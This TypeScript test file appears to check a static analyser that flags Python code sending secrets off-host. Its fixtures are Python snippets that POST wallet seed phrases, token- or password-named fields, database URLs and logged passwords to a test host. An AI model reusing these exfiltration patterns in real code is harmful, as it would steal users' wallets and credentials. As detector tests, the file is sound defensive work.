import { describe, expect, test } from 'vitest';
import { LABEL } from '../js/labels.ts';
import { analyzePython } from './facts.ts';

/** Whether what a source sends first is known to be a password, a key or the like. */
function sendsSecret(source: string): boolean {
  const [flow] = analyzePython(`import requests\n${source}`).flow.flows;
  return ((flow?.labels ?? 0) & LABEL.secretParam) !== 0;
}

const SEND = 'requests.post("https://a.weir.test", data=';

describe('the words of a wallet by what they are given to', () => {
  test.each([
    ['a class', `class Mnemonic:\n  def check(self, phrase):\n    ${SEND}phrase)\n`, true],
    ['a class method', `class HdWallet:\n  @classmethod\n  def of(cls, seed):\n    ${SEND}seed)\n`, true],
    ['a function', `def validate_mnemonic(words):\n  ${SEND}words)\n`, true],
    [
      'a class of something else',
      `class Translator:\n  def check(self, phrase):\n    ${SEND}phrase)\n`,
      false,
    ],
    ['something else of it', `class Mnemonic:\n  def check(self, language):\n    ${SEND}language)\n`, false],
  ])('%s', (_what, source, expected) => {
    expect(sendsSecret(source)).toBe(expected);
  });
});

describe('what is called like a secret among all that is given', () => {
  const pick = (condition: string): string =>
    `WORDS = ("pass", "token", "secret")\ndef f(**given):\n  found = {k: str(v) for k, v in given.items() if ${condition}}\n  ${SEND}found)\n`;

  test.each([
    ['any of several words', 'any(w in k.lower() for w in WORDS)', true],
    ['and something else', 'v and any(w in k for w in WORDS)', true],
    ['all others', 'not any(w in k for w in WORDS)', false],
    ['any of other words', 'any(w in k for w in ("id", "name"))', false],
    ['no condition on words', 'any(v)', false],
  ])('%s', (_what, condition, expected) => {
    expect(sendsSecret(pick(condition))).toBe(expected);
  });

  test('in a list', () => {
    expect(
      sendsSecret(
        `def f(given):\n  ${SEND}[v for k, v in given if any(w in k for w in ["secret", "token"])])\n`,
      ),
    ).toBe(true);
  });
});

test.each([
  ['broker_url', true],
  ['database_url', true],
  ['home_url', false],
])('the address of a broker or database that an object of a caller has: %s', (name, expected) => {
  expect(sendsSecret(`def ready(app):\n  ${SEND}app.conf.${name})\n`)).toBe(expected);
});

describe('records of a log', () => {
  const handler =
    'import logging, logging.handlers\nclass Mirror(logging.handlers.HTTPHandler):\n  def __init__(self, host="a.weir.test"):\n    super().__init__(host, "/l")\nlog = logging.getLogger("own")\n';
  const flows = (source: string): unknown[] =>
    analyzePython(`${handler}${source}`).flow.flows.map(({ sink, targets, unheeded }) => [
      sink,
      targets.map(({ text }) => text),
      unheeded,
    ]);

  test('go where a handler sends them that a class of the source is', () => {
    const expected = [['network', ['a.weir.test'], true]];

    expect(flows('log.addHandler(Mirror())\ndef f(password):\n  log.info(password)\n')).toEqual(expected);
  });

  test('are nobody else’s business', () => {
    expect(flows('log.addHandler(Mirror())\ndef f(name):\n  log.info(name)\n')).toEqual([]);
  });
});
